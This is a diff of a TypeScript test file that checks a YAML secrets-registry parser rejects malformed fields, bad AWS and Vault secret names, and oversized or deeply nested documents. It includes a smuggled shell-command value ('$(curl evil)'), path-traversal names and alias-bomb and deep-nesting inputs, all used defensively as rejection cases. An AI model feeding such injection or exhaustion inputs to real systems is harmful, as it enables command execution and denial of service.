@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { parseRegistry } from '#domain/tokens/parse-registry'
 import { RegistryWrong } from '#domain/tokens/registry'
+import { NAME_FAULTS } from '#domain/tokens/secret-name'
 
 const PATH = 'ops/registry.yaml'
 const entry = (name: string, more = '') =>
@@ -18,22 +19,45 @@ const problemOf = (text: string): string => {
 }
 
 describe('the registry', () => {
-  it('is read with its cadence, and ARNs as the names in them', () => {
-    const arn = 'arn:aws:secretsmanager:eu-central-1:123456789012:secret:flash/staging/x-AbCdEf'
-    const tokens = parseRegistry(
-      registry(entry('a', '    cadence_days: 14\n    notes: n\n'), entry(arn)),
-      PATH,
-    )
-    expect(tokens).toEqual([
+  it('is read with its cadence', () => {
+    const text = registry(entry('a', '    cadence_days: 14\n    notes: n\n'))
+    expect(parseRegistry(text, PATH)).toEqual([
       { agent: 'evaluator', environment: 'staging', secret: 'a', owner: 'platform', cadenceDays: 14 },
-      {
-        agent: 'evaluator',
-        environment: 'staging',
-        secret: 'flash/staging/x',
-        owner: 'platform',
-        cadenceDays: null,
-      },
     ])
+  })
+
+  const hostile = 'x,flashfusion/production/orchestrator,$(curl evil)'
+  it.each([
+    ['agent', registry(entry('a')).replace('evaluator', JSON.stringify(hostile))],
+    ['environment', registry(entry('a')).replace('staging', '"a,b"')],
+    ['owner', registry(entry('a')).replace('platform', '"a\\nb"')],
+  ])('takes no %s that is none', (field, text) => {
+    expect(problemOf(text)).toContain(`is malformed at tokens.0.${field}: must be`)
+  })
+
+  it.each([
+    'a,b',
+    hostile,
+    'a b',
+    'a\\u0000b',
+    'ü',
+    'a'.repeat(513),
+    'arn:aws:s3:::x',
+    'arn:aws:secretsmanager:r:1:secret:',
+  ])('takes %j as no secret of AWS', (name) => {
+    const text = registry(entry(`"${name}"`))
+    expect(() => parseRegistry(text, PATH, NAME_FAULTS.aws)).toThrow(/names the secret .*, which is no/)
+  })
+
+  it.each(['/a', 'a/', 'a//b', 'a/../b', './a', 'a\\nb', 'a/ b'])('takes %j as no path in Vault', (name) => {
+    const text = registry(entry(`"${name}"`))
+    expect(() => parseRegistry(text, PATH, NAME_FAULTS.vault)).toThrow(/, which is no path in Vault/)
+  })
+
+  it('takes what each manager takes', () => {
+    const arn = 'arn:aws-us-gov:secretsmanager:us-gov-west-1:123456789012:secret:flash/a_+=.@-b-AbCdEf'
+    expect(parseRegistry(registry(entry(arn), entry('a_+=.@-/b')), PATH, NAME_FAULTS.aws)).toHaveLength(2)
+    expect(parseRegistry(registry(entry('a b/ü,c')), PATH, NAME_FAULTS.vault)).toHaveLength(1)
   })
 
   it('is read whole with ten thousand entries', () => {
@@ -55,10 +79,24 @@ describe('the registry', () => {
       registry(...['a', 'b', 'c', 'd', 'e'].flatMap((name) => [entry(name), entry(name)])),
       'lists more than once: a, b, c and 2 more',
     ],
+    ['a second document', `${registry(entry('a'))}---\n${registry(entry('b'))}`, 'several YAML documents'],
+    ['a second document after its end', `${registry(entry('a'))}...\n---\nx: 1\n`, 'several YAML documents'],
+    ['an empty second document', `${registry(entry('a'))}---\n`, 'several YAML documents'],
+    ['a key twice in flow style', 'version: 1\ntokens: [{agent: a, agent: b}]', 'and agent is twice'],
+    ['a merge key', 'version: 1\ntokens: [{<<: {agent: a}, secret: b}]', 'uses the YAML merge key'],
+    ['deep nesting', `version: 1\ntokens: ${'['.repeat(20_000)}`, 'is nested too deeply'],
+    ['deep nesting in blocks', `version: 1\ntokens:\n  ${'- '.repeat(20_000)}`, 'is nested too deeply'],
+    ['more than 1 MB', `${registry(entry('a'))}${'# x\n'.repeat(250_000)}`, 'is larger than 1 MB'],
+    ['many faults', ']'.repeat(900_000), 'is not YAML: Unexpected flow-seq-end'],
     ['an alias', 'version: 1\ntokens: &t []\nmore: *t\n', 'uses the YAML alias *t'],
   ])('is refused with %s', (_, text, words) => {
     expect(problemOf(text)).toContain(words)
   })
+
+  it('is read with many keys, comments and an anchor that nobody uses', () => {
+    const keys = Array.from({ length: 20_000 }, (_, index) => `    k${index}: 1\n`).join('')
+    expect(parseRegistry(`# top\n${registry(entry('&a a', keys))}...\n`, PATH)).toHaveLength(1)
+  }, 20_000)
 
   it('does not unfold a bomb of aliases', () => {
     const level = (name: string, of: string) => `${name}: &${name} [${Array(9).fill(`*${of}`).join(', ')}]\n`
